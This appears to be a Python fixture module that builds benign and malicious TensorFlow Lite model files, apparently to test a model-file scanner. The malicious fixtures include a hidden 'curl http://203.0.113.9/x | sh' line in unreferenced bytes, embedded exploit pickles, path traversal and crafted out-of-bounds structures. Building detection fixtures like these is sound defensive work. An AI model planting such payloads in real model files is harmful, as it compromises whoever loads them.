"""TensorFlow Lite: custom operators, numbers that lead outside, and what hides between and behind the tables."""

from __future__ import annotations

import io
import pickle
import struct
import zipfile

from corpus import bad, honest
from corpus.onnx import Exploit
from corpus.tables import Slot, Table, Vector, build, u1, u4, u8
from corpus.wire import field

FILE, MARK = "model.tflite", b"TFL3"
CUSTOM, IF, WHILE = 32, 118, 119
IF_OPTIONS = 92
FLOAT, UINT8, STRING = 0, 3, 5
WEIGHTS = struct.pack("<4f", 0.5, 1, 2, 3)


def code(number: int, custom: str = "") -> Table:
    return Table(u1(min(number, 127)), custom or None, u4(1), u4(number))


def tensor(shape: list[int], buffer: int = 0, kind: int = FLOAT, name: str = "t") -> Table:
    return Table(Vector(shape), u1(kind), u4(buffer), name)


def operator(index: int = 0, inputs: list[int] | None = None, options: tuple[Slot, ...] = (None, None, None)) -> Table:
    return Table(u4(index), Vector(inputs or [0]), Vector([1]), *options)


def graph(*operators: Table, tensors: list[Table] | None = None) -> Table:
    parts = tensors if tensors is not None else [tensor([2, 2], 1), tensor([2, 2], name="y")]
    return Table(Vector(parts), Vector([0]), Vector([1]), Vector(list(operators or [operator()])), "main")


def model(
    *graphs: Table,
    codes: tuple[Table, ...] = (code(0),),
    buffers: tuple[bytes | Table, ...] = (WEIGHTS,),
    metadata: tuple[Table, ...] = (),
    more: tuple[Slot, ...] = (),
) -> bytes:
    data = [Table(), *(b if isinstance(b, Table) else Table(b) for b in buffers)]
    facts = Vector(list(metadata)) if metadata else None
    parts = Vector(list(codes)), Vector(list(graphs or [graph()]))
    return build(Table(u4(3), *parts, "made by hand", Vector(data), None, facts, *more), MARK)


def packed(data: bytes, *, absolute: bool = True, **files: bytes) -> bytes:
    """A model with files in a zip behind it, as the task library packs them."""
    buffer = io.BytesIO(data if absolute else b"")
    with zipfile.ZipFile(buffer, "a") as archive:
        for name, content in files.items():
            archive.writestr(name.replace("__", "."), content)
    return buffer.getvalue() if absolute else data + buffer.getvalue()


def flex(name: str, op: str) -> bytes:
    """Options of a Flex operator: a vector of its name and its NodeDef, in FlexBuffers."""
    node = field(1, "n") + field(2, op)
    out = bytes([len(name)]) + name.encode() + b"\0"
    first = 1
    out += bytes([len(node)]) + node + b"\0"
    second = len(out) - len(node) - 1
    out += b"\x02"
    at = len(out)
    out += bytes([at - first, at + 1 - second]) + bytes([5 << 2, 5 << 2])
    return out + bytes([len(out) - at]) + bytes([10 << 2, 1])


# honest


@honest("tflite", "one operator", file=FILE)
def small() -> bytes:
    return model()


@honest("tflite", "labels in a zip behind the model, as the task library packs them", file=FILE)
def with_labels() -> bytes:
    return packed(model(), labels__txt=b"cat\ndog\n")


@honest("tflite", "the same, with a directory that counts from the zip's own beginning", file=FILE)
def with_labels_relative() -> bytes:
    return packed(model(), absolute=False, labels__txt=b"cat\ndog\n")


@honest("tflite", "an empty zip behind the model", file=FILE)
def with_nothing() -> bytes:
    return packed(model())


@honest("tflite", "two buffers that are one, and a version in the metadata", file=FILE)
def shared() -> bytes:
    return model(metadata=(Table("min_runtime_version", u4(2)),), buffers=(WEIGHTS, b"1.5.0".ljust(16, b"\0")))


@honest("tflite", "a custom operator of TensorFlow Lite's own", file=FILE)
def detection() -> bytes:
    return model(codes=(code(CUSTOM, "TFLite_Detection_PostProcess"),))


@honest("tflite", "an operator of TensorFlow that computes", file=FILE)
def flex_add() -> bytes:
    options = (None, None, flex("AddV2", "AddV2"))
    return model(graph(operator(options=options)), codes=(code(CUSTOM, "FlexAddV2"),))


@honest("tflite", "an operator that calls other graphs", file=FILE)
def calls() -> bytes:
    options = (u1(IF_OPTIONS), Table(u4(1), u4(2)), None)
    return model(graph(operator(options=options)), graph(), graph(), codes=(code(IF),))


# operators


@bad("tflite", "a custom operator that nobody knows", file=FILE)
def custom() -> bytes:
    return model(codes=(code(CUSTOM, "AcmeRunCommand"),))


@bad("tflite", "TensorFlow's operator that writes files", file=FILE)
def flex_write() -> bytes:
    return model(codes=(code(CUSTOM, "FlexWriteFile"),))


@bad("tflite", "TensorFlow's operator that calls Python", file=FILE)
def flex_python() -> bytes:
    return model(codes=(code(CUSTOM, "FlexEagerPyFunc"),))


@bad("tflite", "a harmless name, and a NodeDef that writes files", file=FILE)
def flex_disguised() -> bytes:
    options = (None, None, flex("AddV2", "WriteFile"))
    return model(graph(operator(options=options)), codes=(code(CUSTOM, "FlexAddV2"),))


@bad("tflite", "an operator with a number that does not exist", file=FILE)
def number() -> bytes:
    return model(codes=(code(9999),))


@bad("tflite", "an operator with two numbers", file=FILE)
def two_numbers() -> bytes:
    return model(codes=(Table(u1(3), None, u4(1), u4(9)),))


@bad("tflite", "a graph that calls itself (CVE-2021-29591)", file=FILE)
def recursion() -> bytes:
    options = (u1(IF_OPTIONS), Table(u4(0), u4(0)), None)
    return model(graph(operator(options=options)), codes=(code(IF),))


@bad("tflite", "a graph that is not there is called", file=FILE)
def no_graph() -> bytes:
    options = (u1(IF_OPTIONS), Table(u4(7), u4(8)), None)
    return model(graph(operator(options=options)), codes=(code(IF),))


# numbers that lead outside


@bad("tflite", "a tensor of more values than its buffer holds", file=FILE)
def shape() -> bytes:
    return model(graph(tensors=[tensor([1000, 1000], 1), tensor([2])]))


@bad("tflite", "a negative dimension", file=FILE)
def negative() -> bytes:
    return model(graph(tensors=[tensor([-2, -2], 1), tensor([2])]))


@bad("tflite", "a buffer that is not there", file=FILE)
def no_buffer() -> bytes:
    return model(graph(tensors=[tensor([2, 2], 77), tensor([2])]))


@bad("tflite", "a tensor that is not there (CVE-2020-15211)", file=FILE)
def no_tensor() -> bytes:
    return model(graph(operator(inputs=[5000])))


@bad("tflite", "a tensor of a negative number (CVE-2020-15211)", file=FILE)
def negative_tensor() -> bytes:
    return model(graph(operator(inputs=[-7])))


@bad("tflite", "an operator of a code that is not there", file=FILE)
def no_code() -> bytes:
    return model(graph(operator(index=9)))


@bad("tflite", "weights at a place outside the file", file=FILE)
def buffer_outside() -> bytes:
    return model(buffers=(Table(None, u8(1 << 40), u8(16)),))


@bad("tflite", "a file of weights outside the model's folder", file=FILE)
def external() -> bytes:
    groups = Vector([Table("../../../etc/passwd")])
    return model(more=(None, groups))


@bad("tflite", "the first offset leads out of the file", file=FILE)
def offset() -> bytes:
    return struct.pack("<I", 1 << 30) + small()[4:]


@bad("tflite", "a vector that reaches out of the file", file=FILE)
def vector() -> bytes:
    data = bytearray(small())
    at = data.index(struct.pack("<I", 16) + WEIGHTS)
    data[at : at + 4] = struct.pack("<I", 1 << 30)
    return bytes(data)


@bad("tflite", "the model breaks off", file=FILE)
def truncated() -> bytes:
    return small()[:-12]


@bad("tflite", "a slot that nobody knows", file=FILE)
def slot() -> bytes:
    return model(more=(None, None, None, "what is this"))


@bad("tflite", "options of a kind that nobody knows", file=FILE)
def union() -> bytes:
    return model(graph(operator(options=(u1(250), Table(u4(1)), None))))


# what hides


@bad("tflite", "bytes that no table refers to", file=FILE)
def hidden() -> bytes:
    data = bytearray(small())
    data[:4] = struct.pack("<I", struct.unpack("<I", data[:4])[0] + 48)
    return bytes(data[:8]) + b"#!/bin/sh\ncurl http://203.0.113.9/x | sh\n".ljust(48, b"\n") + bytes(data[8:])


@bad("tflite", "a pickle behind the model", file=FILE)
def behind() -> bytes:
    return small() + pickle.dumps(Exploit())


@bad("tflite", "a pickle in the zip behind the model", file=FILE)
def behind_in_zip() -> bytes:
    return packed(model(), labels__txt=pickle.dumps(Exploit()))


@bad("tflite", "a file of the zip that leaves the folder", file=FILE)
def zip_slip() -> bytes:
    return packed(model(), **{"../../evil__txt": b"cat\n"})


@bad("tflite", "bytes between the model and the zip", file=FILE)
def between() -> bytes:
    return packed(model() + b"\x01" * 32, labels__txt=b"cat\n")


@bad("tflite", "a pickle in a tensor of texts", file=FILE)
def pickle_in_texts() -> bytes:
    payload = pickle.dumps(Exploit())
    return model(graph(tensors=[tensor([1], 1, STRING), tensor([2])]), buffers=(payload,))


@bad("tflite", "a pickle in a tensor of bytes", file=FILE)
def pickle_in_bytes() -> bytes:
    payload = pickle.dumps(Exploit()).ljust(96, b"\0")
    return model(graph(tensors=[tensor([96], 1, UINT8), tensor([2])]), buffers=(payload,))


@bad("tflite", "a program in the metadata", file=FILE)
def program() -> bytes:
    payload = b"\x7fELF\x02\x01\x01".ljust(96, b"\0")
    return model(metadata=(Table("note", u4(2)),), buffers=(WEIGHTS, payload))


@bad("tflite", "metadata that name a file outside", file=FILE)
def associated() -> bytes:
    described = build(Table("m", None, None, None, None, None, Vector([Table("../../labels.txt")])), b"M001")
    return model(metadata=(Table("TFLITE_METADATA", u4(2)),), buffers=(WEIGHTS, described))


@bad("tflite", "one place that is read as two kinds of table", file=FILE)
def two_kinds() -> bytes:
    data = bytearray(small())
    described = data.index(b"made by hand") - 4
    root = struct.unpack("<I", data[:4])[0]
    index = root - struct.unpack("<i", data[root : root + 4])[0]
    slots = struct.unpack("<9H", data[index : index + 18])
    codes, graphs = root + slots[3], root + slots[4]
    target = codes + struct.unpack("<I", data[codes : codes + 4])[0]
    data[graphs : graphs + 4] = struct.pack("<I", target - graphs)
    assert described > 0
    return bytes(data)
